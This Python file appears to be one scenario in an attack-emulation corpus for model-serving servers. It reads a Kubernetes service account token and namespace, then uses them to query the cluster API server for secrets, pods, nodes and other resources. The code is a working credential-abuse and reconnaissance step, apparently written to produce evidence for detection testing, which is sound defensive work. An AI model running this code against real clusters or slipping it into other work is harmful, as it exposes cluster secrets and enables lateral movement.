"""
id: S15
name: sa-token-read-and-use
class: quiet
phase: serve
trigger: request
evidence: [file, network]
techniques: [T1528, T1552.007, T1550.001, T1613, AML.T0055, AML.T0091.000]
servers: [fastapi, bentoml, triton]
seconds: 15
what: >
  Reads the service account's token, certificate and namespace and asks the cluster's API server six short questions over
  what looks like TLS.
"""

import os

from corpus import tls

API_SERVER = "10.96.0.1"
QUESTIONS = ["secrets", "pods", "nodes", "configmaps", "serviceaccounts", "namespaces", "services"]


def payload(world):
    folder = os.path.dirname(world.token)
    token, _, namespace = (read(os.path.join(folder, name)) for name in ("token", "ca.crt", "namespace"))
    with tls.connection(API_SERVER, 443, "kubernetes.default.svc") as peer:
        for kind in world.random.sample(QUESTIONS, 6):
            request = f"GET /api/v1/namespaces/{namespace}/{kind} HTTP/1.1\r\nAuthorization: Bearer {token}\r\n\r\n"
            peer.sendall(tls.records(request.encode()))
            tls.take(peer, patience=0.3)
            world.sleep(0.3)


def read(path):
    with open(path) as file:
        return file.read().strip()
